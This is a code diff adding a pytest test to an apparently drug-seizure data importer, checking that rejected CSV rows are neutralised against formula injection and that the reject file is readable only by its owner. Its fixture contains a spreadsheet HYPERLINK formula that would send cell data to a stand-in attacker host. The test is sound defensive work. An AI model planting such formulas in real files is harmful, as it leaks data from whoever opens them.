@@ -148,3 +148,24 @@ def test_blank_lines_are_skipped_and_rows_keep_their_line_numbers(node, tmp_path
     with pytest.raises(ImportFailed) as err:
         import_file(node, analyst, FileSource("ndjson", nd), workers=False)
     assert err.value.report.rows == 2 and str(err.value.report.errors[0]).startswith(f"{nd}:5: ")
+
+
+def test_reject_file_cells_cannot_run_as_formulas_and_only_the_owner_reads_it(node, tmp_path):
+    import csv
+    import stat
+
+    path = tmp_path / "s.csv"
+    path.write_text("substance,date,country,quantity.amount,quantity.unit\n"
+                    "=HYPERLINK(\"http://evil.example/?\"&A1),2025-01-02,Narnia,25,kg\n"
+                    "ANPP,2025-01-02,MX,25,kg\n", encoding="utf-8")
+    rejects = tmp_path / "rejects.csv"
+    analyst = Actor("ana", "analyst", node.id)
+    report = import_file(node, analyst, FileSource("csv", path, "seizure"), skip_invalid=True, reject_path=rejects,
+                         workers=False)
+    assert (report.imported, report.rejected, report.reject_file) == (1, 1, str(rejects))
+    assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
+    with open(rejects, encoding="utf-8", newline="") as fh:
+        header, row = list(csv.reader(fh))
+    assert header == ["file", "row", "reason", "raw"] and row[1] == "2"
+    assert row[3].startswith("'=HYPERLINK(")  # a spreadsheet shows it as text
+    assert not (tmp_path / "rejects.csv.partial").exists()
